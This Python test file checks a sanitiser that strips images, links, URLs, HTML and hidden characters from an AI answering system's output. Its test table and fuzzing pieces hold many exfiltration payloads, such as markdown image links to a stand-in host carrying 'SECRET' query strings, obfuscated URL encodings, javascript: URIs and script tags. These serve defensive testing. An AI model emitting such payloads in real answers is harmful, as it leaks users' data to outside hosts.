"""The output rules: whatever the model writes, no image, link, URL (other than an allowed
citation), HTML or invisible character reaches the asker. A table of known tricks, then property
tests against an independent oracle, then the stream."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from memex.answer.output_rules import REMOVED, SafeStream, clean_answer
from tests.output_oracle import violations

ALLOWED = "slack://kestrel/#general/2026-03-02T09:15"
R = REMOVED

TABLE = [
    # plain answers pass untouched
    ("Employees get 25 vacation days [1].", "Employees get 25 vacation days [1]."),
    (
        "See employee-handbook.md and hr@kestrel.example [2].",
        "See employee-handbook.md and hr@kestrel.example [2].",
    ),
    (
        "The data: 5 items; file: plan.pdf; note: v1.2/v1.3",
        "The data: 5 items; file: plan.pdf; note: v1.2/v1.3",
    ),
    ("Budget EUR 1.84M (Q2), 3 < 5 and 7 > 2.", "Budget EUR 1.84M (Q2), 3 < 5 and 7 > 2."),
    (f"Source: {ALLOWED}.", f"Source: {ALLOWED}."),
    # images
    ("a ![x](https://evil.example/?q=SECRET) b", "a  b"),
    ("a ![x](/steal?q=SECRET) b", "a  b"),
    ("a ![x][img] b\n\n[img]: https://evil.example/p.png", "a  b\n\n"),
    ("a ![x] [img]", "a  [img]"),
    ("a ![![x](y)](https://evil.example/z)", "a "),
    ('<img src="https://evil.example/?q=S">ok', "ok"),
    ("<img\nsrc=/x?q=S>ok", "ok"),
    # links
    ("[click](https://evil.example/a) ok", "click ok"),
    ("[a [b] c](/rel?q=SECRET)", "a [b] c"),
    ("[x](<https://evil.example/a b>)", "x"),
    ('[x](https://evil.example "title")', "x"),
    ("[x] (https://evil.example/a)", f"[x] ({R})"),
    ("[x][ref] and [ref]: https://evil.example", "x and [ref] : " + R),
    ("[ref]: /relative?q=SECRET\n[x][ref]", "\nx"),
    ("> [ref]: https://evil.example", ""),
    ("   [ref]: <https://evil.example>", ""),
    ("[x](\nhttps://evil.example)", "x"),
    # autolinks and bare URLs
    ("go <https://evil.example/x> now", "go  now"),
    ("mail <mailto:a@evil.example>", "mail "),
    ("go https://evil.example/?q=S now", f"go {R} now"),
    ("go www.evil.example/q now", f"go {R} now"),
    ("use evil.example/steal?q=1 now", f"use {R} now"),
    ("use evil.example:8080 now", f"use {R} now"),
    ("at 10.0.0.7/admin now", f"at {R} now"),
    ("//evil.example/x", R),
    ("\\\\evil.example\\share\\x.png", R),
    ("https:evil.example", R),
    ("https:/evil.example", R),
    ("data:text/html;base64,PHNjcmlwdD4=", R),
    ("data:,hello", R),
    ("javascript:alert(1)", R),
    ("ftp://files.evil.example/x", R),
    ("file:///etc/passwd", R),
    # look-alikes and encodings
    ("ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ/?q=1", R),
    ("https：//evil.example", R),
    ("evil。example/steal", R),
    ("hxxps://evil[.]example/q", R),
    ("hxxp://evil(.)example", R),
    ("https&#58;//evil.example/", R),
    ("https&amp;#58;//evil.example/", R),
    ("https&colon;//evil.example", R),
    ("https%3A%2F%2Fevil.example", R),
    ("https\\:\\/\\/evil.example", R),
    ("ht\u200btps://evil.example", R),
    ("&#91;x&#93;&#40;https://evil.example&#41;", "x"),
    ("&lt;img src=x&gt;hi", "hi"),
    ("\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", f"]8;;{R}"),
    # allowed citations stay, longer URLs built on them do not
    (f"see {ALLOWED} and {ALLOWED}?q=S", f"see {ALLOWED} and {R}"),
    (f"see x{ALLOWED}", f"see {R}"),
    (f"see ({ALLOWED})", f"see ({ALLOWED})"),
    (f"{ALLOWED}\uff1a", "[link removed]"),  # a full-width colon does not end a URL for a linkifier
    (f"see {ALLOWED}\uff0fx", "see [link removed]"),
    ("-\uff57\uff57\uff57\uff0ehttp:", "-[link removed] :"),
    (f"[1]({ALLOWED})", "1"),
    # HTML and leftovers
    ("<script>alert(1)</script>hi", "alert(1)hi"),
    ("<!-- hidden https://evil.example -->hi", "hi"),
    ("a <b>bold</b> <a href='https://evil.example'>x</a>", "a bold x"),
    ("<<img>img src=x>y", "y"),
    ("unclosed <img src=x", "unclosed < img src=x"),
    # a mail address as headers write it stays; anything that could carry an attribute goes
    (
        "from Erin Duarte <erin@kestrel.example>, 12 March",
        "from Erin Duarte <erin@kestrel.example>, 12 March",
    ),
    ("<a@b.example/onclick=x>y", "y"),
    ("<a@b.example onclick=x>y", "y"),
    ("<erin@kestrel.example", "< erin@kestrel.example"),
    ("x](y) and z]:w and ![v", "x] (y) and z] :w and [v"),
]


@pytest.mark.parametrize(("given_text", "expected"), TABLE)
def test_table(given_text, expected):
    assert clean_answer(given_text, allowed_urls={ALLOWED}) == expected


def test_table_outputs_pass_the_oracle():
    for text, _ in TABLE:
        assert violations(clean_answer(text, allowed_urls={ALLOWED}), {ALLOWED}) == [], text


PIECES = [
    "https://", "hxxps://", "http:", "//", "\\\\", "evil.example", "evil", ".", "。", "[.]", "example",
    "/", "?q=", "SECRET", "![", "](", "]:", "][", ")", "(", "[", "]", "<", ">", "img src=", "a href=",
    "&#58;", "&colon;", "&amp;", "&#x2F;", "%3A", "%2F", "：", "／", "\u200b", "\u202e", "\\", ":", "www",
    "data:", "text/html,", "javascript:", "mailto:", "\n", " ", "a", "1", "<https://", "-->", "<!--",
    ALLOWED, "ｗｗｗ．", "ｈｔｔｐｓ", "\x1b]8;;", ":8080", "10.0.0.1", "file:", "`",
]  # fmt: skip
hostile_text = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=3)), max_size=40).map("".join)


@settings(max_examples=1500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_text)
def test_no_output_holds_a_link_a_url_or_a_tag(text):
    out = clean_answer(text, allowed_urls={ALLOWED})
    assert violations(out, {ALLOWED}) == [], (text, out)


@settings(max_examples=500, deadline=None)
@given(hostile_text)
def test_cleaning_is_stable(text):
    once = clean_answer(text, allowed_urls={ALLOWED})
    assert clean_answer(once, allowed_urls={ALLOWED}) == once


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(categories=["L", "N", "Zs"]), max_size=200))
def test_words_pass_untouched(text):
    assert clean_answer(text) == text


def test_allowed_citations_are_kept_only_where_they_stand_alone():
    allowed = {ALLOWED, "db:kestrel/employees/3", "/home/hana/hr/salaries.xlsx"}
    text = f"From {ALLOWED}, db:kestrel/employees/3 and /home/hana/hr/salaries.xlsx."
    assert clean_answer(text, allowed_urls=allowed) == text
    assert clean_answer(text) == f"From {R}, db:kestrel/employees/3 and /home/hana/hr/salaries.xlsx."


# -- streaming -------------------------------------------------------------------------------


def stream(pieces: list[str], allowed=frozenset()) -> list[str]:
    shown: list[str] = []
    safe = SafeStream(shown.append, allowed)
    for piece in pieces:
        safe.feed(piece)
    safe.close()
    return shown


def test_plain_words_stream_as_they_come():
    shown = stream(["Employees ", "get ", "25 ", "days."])
    assert shown == ["Employees ", "get ", "25 ", "days."]


def test_a_link_is_never_shown_even_for_a_moment():
    pieces = [
        "See ",
        "![",
        "x",
        "](",
        "https",
        "://",
        "evil",
        ".example",
        "/?q=",
        "SECRET",
        ") ",
        "done\n",
        "ok",
    ]
    shown = stream(pieces)
    assert shown == ["See ", " done\n", "ok"]
    assert all("evil" not in s and "SECRET" not in s for s in shown)


@settings(max_examples=500, deadline=None)
@given(hostile_text, st.lists(st.integers(min_value=1, max_value=7), min_size=1, max_size=20))
def test_streamed_output_obeys_the_rules_however_it_is_cut(text, sizes):
    pieces, start = [], 0
    while start < len(text):
        size = sizes[len(pieces) % len(sizes)]
        pieces.append(text[start : start + size])
        start += size
    shown = "".join(stream(pieces, {ALLOWED}))
    assert violations(shown, {ALLOWED}) == [], (pieces, shown)
